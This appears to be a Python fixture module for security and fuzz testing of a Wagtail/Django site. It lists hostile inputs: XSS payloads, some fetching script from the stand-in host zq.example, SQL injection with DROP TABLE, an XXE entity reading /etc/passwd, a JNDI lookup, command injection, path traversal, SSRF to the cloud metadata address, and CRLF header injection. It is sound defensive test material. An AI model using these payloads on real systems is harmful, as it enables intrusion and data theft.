"""Words that people paste by mistake, and words that attackers send. `zq` marks what must never become part of a page."""

CODE = [
    "<script>zq()</script>", "<ScRiPt>zq()</sCrIpT>", "<script src=//zq.example/x.js></script>", "</textarea><script>zq()</script>",
    "</title><script>zq()</script>", "</script><script>zq()</script>", "<img src=x onerror=zq()>", "<svg/onload=zq()>",
    "<svg><animate onbegin=zq() attributeName=x dur=1s>", "<body onload=zq()>", "<iframe src=javascript:zq()>",
    "<iframe srcdoc='<script>zq()</script>'>", "<a href=javascript:zq()>x</a>", "<a href='jAvAsCrIpT:zq()'>x</a>",
    "<a href='java\tscript:zq()'>x</a>", "<a href='&#106;avascript:zq()'>x</a>", "<math href=javascript:zq()>x</math>",
    "<details open ontoggle=zq()>", "<video><source onerror=zq()></video>", "<input autofocus onfocus=zq()>", "<marquee onstart=zq()>",
    "<form action=javascript:zq()><button>x</button></form>", "<button formaction=javascript:zq()>x</button>", "<object data=javascript:zq()>",
    "<embed src=javascript:zq()>", "<base href=//zq.example/>", "<link rel=stylesheet href=//zq.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:zq()'>", "<style>@import '//zq.example'</style>", "<p style='background:url(//zq.example)'>x</p>",
    "<zq-element>x</zq-element>", "<zq onclick=zq()>x", "'\"><zq>", "\"><script>zq()</script>", "'><script>zq()</script>",
    "\" onmouseover=\"zq()", "' onmouseover='zq()", "` onmouseover=zq() `", "\" autofocus onfocus=zq() x=\"", "javascript:zq()",
    "data:text/html,<script>zq()</script>", "vbscript:zq()", "<!--<script>zq()</script>-->", "<![CDATA[<script>zq()</script>]]>", "<?xml version='1.0'?><zq/>",
    "<!DOCTYPE zq [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><zq>&a;</zq>", "<noscript><p title='</noscript><img src=x onerror=zq()>'>",
    "<template><script>zq()</script></template>", "<table><td background=javascript:zq()>", "&lt;script&gt;zq()&lt;/script&gt;", "\\x3cscript\\x3ezq()\\x3c/script\\x3e",
    "\\u003cscript\\u003ezq()", "+ADw-script+AD4-zq()", "％3Cscript％3Ezq()", "＜script＞zq()＜/script＞", "<scr\x00ipt>zq()</script>", "<<script>zq()//<</script>",
    "<img src='x' alt='`' onerror='zq()'>", "<select><option></select><img src=x onerror=zq()>", "<x/onpointerenter=zq()>x", "<a id=zq name=zq>", "<input name=csrfmiddlewaretoken value=zq>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:zq())", "[x](JaVaScRiPt:zq())", "[x](data:text/html,<script>zq()</script>)", "![x](javascript:zq())",
    '![x](x"onerror="zq())', '[x](http://a "onclick=zq()")', "[x]: javascript:zq()\n\n[x]", "<javascript:zq()>", "[^1]\n\n[^1]: <script>zq()</script>",
    "| a |\n|---|\n| <script>zq()</script> |", "```html\n<script>zq()</script>\n```", "~~~\n</code></pre><script>zq()</script>", "# <img src=x onerror=zq()>",
    "> > > > <zq>", "- " * 30, "[" * 400, "*" * 400, "_" * 401, "`" * 400, "|" * 300, "#" * 300, ">" * 300, "(" * 400, "![" * 200, "[a](" * 200, "<" * 400, "&" * 300,
    "$$x$$", "~~x~~", "#", "#<script>zq()</script>", "#zq\"onclick=zq()", "##", "#" + "a" * 500, "#١٢٣", "#a-b", "# #a #b",
]  # fmt: skip
QUESTIONS = [
    '"', "a\"b", '""', "'", "''", "' OR 1=1 --", "'; DROP TABLE wagtailcore_page; --", '" OR ""="', "1) OR (1=1", "1; SELECT pg_sleep(9)", "UNION SELECT NULL", "*", "a*", "**", "^a",
    "a AND", "OR", "NOT", "NEAR(a b)", "NEAR(", "a NEAR/0 b", "title:a", "-a", "+a", "a:b:c", "(a", "a)", "()", "{a", "a}", "[a]", "a & | ! b", "a <-> b", ":*", "%", "_", "%%", "\\", "\\\\", "a\\",
    "^", "~", "~1", "a~", "?", "/", "//", "-", "--", "+", "!", "&", "|", ";", ",", ".", "..", "@", "=", "a=b", " ", "  ",
]  # fmt: skip
TEMPLATES = [
    "{{ 7*7 }}", "{% load static %}", "{% include 'admin/base.html' %}", "{{ settings.SECRET_KEY }}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(name)s", "%s%s%s%n", "%d", "{0}", "{}",
    "{0.__class__}", "${jndi:ldap://zq.example/a}", "`id`", "$(id)", "; cat /etc/passwd", "| id", "../../../etc/passwd", "..\\..\\windows", "/etc/passwd\x00.png", "C:\\boot.ini", "file:///etc/passwd",
    "http://169.254.169.254/", "http://[::1]/", "//zq.example", "https://zq.example\\@localhost", "a@b.ca\nBcc: zq@zq.example", "a@b.ca\r\nBcc: zq@zq.example", "x\r\nSet-Cookie: zq=1", "x\nLocation: //zq.example",
]  # fmt: skip
NUMBERS = [
    "-1", "0", "00", "1e309", "-1e309", "1e-400", "NaN", "nan", "Infinity", "-Infinity", "inf", "9" * 19, "9" * 40, "9" * 5000, "-" + "9" * 40, "0x10", "0b1", "1_000", "1,5", "1.5.5", "١٢٣", "²", "½", "Ⅷ", "๑", "1 ", "+1",
    "1e5", ".5", "5.", "--1", "2024-13-45", "9999-12-31", "0000-00-00", "24:61", "10000-01-01T00:00Z", "null", "None", "undefined", "true", "on", "[]", "[1]", '{"a": 1}', "[" * 2000,
]  # fmt: skip
SIGNS = [
    *(f"a{chr(code)}b" for code in range(0x20)), "\x7f", "\x80", "\x85", "\x9f", "\xa0", "\xad", "\u061c", "\u200b", "\u200d", "\u200e", "\u202e zq", "\u2028", "\u2029", "\u2066", "\u3000", "\ufeff", "\ufffd", "\ufffe", "\uffff",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\U0001f3f4\U000e0067\U000e0062", "\U0010ffff", "\U000e0001", "Z\u0351\u036b\u0343\u036a" * 40, "İ", "ı", "ß", "ﬀ", "ǅ", "Å", "A\u030a", "Å", "ｆｕｌｌ", "שלום", "مرحبا",
    "日本語", "ไทย", "हिन्दी", "ᓀᐦᐃᔭᐍᐏᐣ", "Ḧ̤ë̤", "\ud7ff", "\ue000", "a" * 300, "a" * 10_000, "é" * 5000, "a " * 3000, "\n" * 2000, "\t" * 500, "a\n" * 2000,
]  # fmt: skip
HOSTILE = list(dict.fromkeys([*CODE, *MARKDOWN, *QUESTIONS, *TEMPLATES, *NUMBERS, *SIGNS]))
MOST = [value for place, value in enumerate(HOSTILE) if place % 3]  # two of three, where each answer takes its time
RAW = [
    "%00",
    "%FF",
    "%C0%AF",
    "%ED%A0%80",
    "%F8%88%80%80%80",
    "%E2%80",
    "%u0041",
    "%",
    "%zz",
    "%252e%252e%252f",
    "a%00b",
    "%0d%0aX-Zq:%201",
    "a&a&a=&=&&",
    "%5B%5D=1",
    "[]=1",
    "a[b][c]=1",
]
REFUSED_WHOLE = [value for value in HOSTILE if "\x00" in value or len(value) > 2000]


def share(words: list[str], turn: int) -> list[str]:
    """A third of the words, another one at each turn: together, a few places meet them all."""
    return words[turn % 3 :: 3]


def together(number: int = 24) -> list[str]:
    """The others in few texts, so that a form meets all of them in a few posts."""
    rest = [value for value in HOSTILE if value not in REFUSED_WHOLE]
    return ["\n\n".join(rest[start::number]) for start in range(number)]
